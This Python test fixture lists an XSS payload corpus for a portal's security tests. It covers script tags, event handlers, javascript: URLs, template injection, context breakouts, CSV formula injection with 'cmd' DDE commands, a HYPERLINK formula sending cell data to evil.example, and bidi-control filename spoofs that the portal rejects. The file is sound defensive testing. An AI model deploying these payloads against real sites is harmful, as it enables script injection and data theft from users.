"""The XSS corpus of issue 14: each payload one distinct trick, written to give itself away if it ever runs.

Every payload that could become markup carries a `data-xss` attribute (and, where it has a script or a handler,
sets `window.__xss` or calls alert()), so that an injection shows as an element even where the page's CSP
stops the script. `ACCEPTED` payloads are legitimate text to the portal and must be stored and shown exactly;
`REFUSED` ones hold a character the portal's one input rule (smartcities.text.clean_text) refuses at entry
(bidi controls, NUL): the RTL-override trick never reaches a page.
All are single-line, 10 to 200 characters (the shortest answer to a flag, the longest title), unpadded.
No two share an organisation-name key (smartcities.organisations.names), so each names a partner of its own.
"""
from __future__ import annotations

from typing import NamedTuple


class Payload(NamedTuple):
    name: str
    text: str


ACCEPTED = [
    # Script tags
    Payload("script-tag", "<script data-xss>window.__xss=1;alert(1)</script>"),
    Payload("script-src-uppercase", "<SCRIPT data-xss SRC=//127.0.0.1:9/x.js></SCRIPT>"),
    Payload("script-nested-filter", "<scr<script>ipt data-xss>window.__xss=1</scr</script>ipt>"),
    Payload("script-close-breakout", "</script><script data-xss>window.__xss=1</script>"),
    # Event handlers
    Payload("img-onerror", '<img src=x data-xss onerror="window.__xss=1;alert(1)">'),
    Payload("details-ontoggle", "<details data-xss open ontoggle=alert(1)>details ontoggle</details>"),
    Payload("input-autofocus", "<input data-xss autofocus onfocus=alert(1)>"),
    # javascript: URLs
    Payload("a-javascript-href", '<a data-xss href="javascript:alert(1)">click me</a>'),
    Payload("bare-javascript-url", "javascript:alert(document.domain)//"),
    Payload("a-entity-javascript", '<a data-xss href="&#106;avascript:alert(1)">encoded link</a>'),
    # SVG and MathML
    Payload("svg-onload", "<svg data-xss onload=alert(1)><circle r=5 /></svg>"),
    Payload("svg-script", "<svg><script data-xss>window.__xss=1</script></svg>"),
    Payload("math-mutation", "<math><mtext><table><mglyph><style><img data-xss src=x onerror=alert(1)>"),
    # Broken quotes and breakouts of the contexts a value can land in
    Payload("double-quote-tag", '"><img data-xss src=x onerror=alert(1)>'),
    Payload("single-quote-attribute", "' onmouseover='alert(1)' data-xss='"),
    Payload("double-quote-attribute", '" autofocus onfocus="alert(1)" data-xss="'),
    Payload("textarea-breakout", "</textarea><img data-xss src=x onerror=alert(1)>"),
    Payload("title-breakout", "</title><img data-xss src=x onerror=alert(1)>"),
    Payload("comment-breakout", "--><svg data-xss onload=alert(1)><!--"),
    Payload("js-string-breakout", "\\\";window.__xss=1;//'};alert(1);//"),
    # Template injection
    Payload("jinja-arithmetic", "Total {{7*7}} items"),
    Payload("angular-sandbox", "{{constructor.constructor('window.__xss=1')()}}"),
    # Encodings and look-alikes
    Payload("pre-escaped-entities", "&lt;img data-xss src=x onerror=alert(1)&gt; &amp;"),
    Payload("fullwidth-brackets", "\uff1cimg data-xss src=x onerror=alert(1)\uff1e in full width"),
    Payload("style-and-bold", '<style>*{background:url("javascript:alert(1)")}</style><b data-xss>styled</b>'),
    Payload("object-data-url", '<object data-xss data="data:text/html,<script>alert(1)</script>"></object>'),
    # Spreadsheet formulas (CSV export)
    Payload("csv-equals", '=HYPERLINK("http://evil.example/?x="&A1,"Click")'),
    Payload("csv-plus", "+SUM(1+1)*cmd|' /C calc'!A0"),
    Payload("csv-minus", "-2+3+cmd|' /C calc'!A0"),
    Payload("csv-at", "@SUM(2+2)*cmd|' /C notepad'!A0"),
    # Right-to-left scripts and zero-width characters the region's languages need: allowed
    Payload("zero-width", "Invisible\u200b\u200c\u200d\u2060joiners\ufeff<b data-xss>zero width</b>"),
    Payload("rtl-scripts", "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 \u05e2\u05d1\u05e8\u05d9\u05ea"
                           " \u0e44\u0e17\u0e22 <b data-xss>mixed</b>"),
]

REFUSED = [
    # (payload, the message the entry point gives, after the field's name)
    (Payload("rtl-override", "invoice\u202egpj.exe <b data-xss>x</b>"),
     "must not contain U+202E, a bidirectional control character"),
    (Payload("bidi-isolate", "Isolate \u2066<b data-xss>x</b>\u2069 trick"),
     "must not contain U+2066, a bidirectional control character"),
    (Payload("right-to-left-mark", "Mark \u200f<img data-xss src=x onerror=alert(1)>"),
     "must not contain U+200F, a bidirectional control character"),
    (Payload("nul-byte", "Null\x00<script data-xss>alert(1)</script>"),
     "must not contain a NUL character (U+0000)"),
]
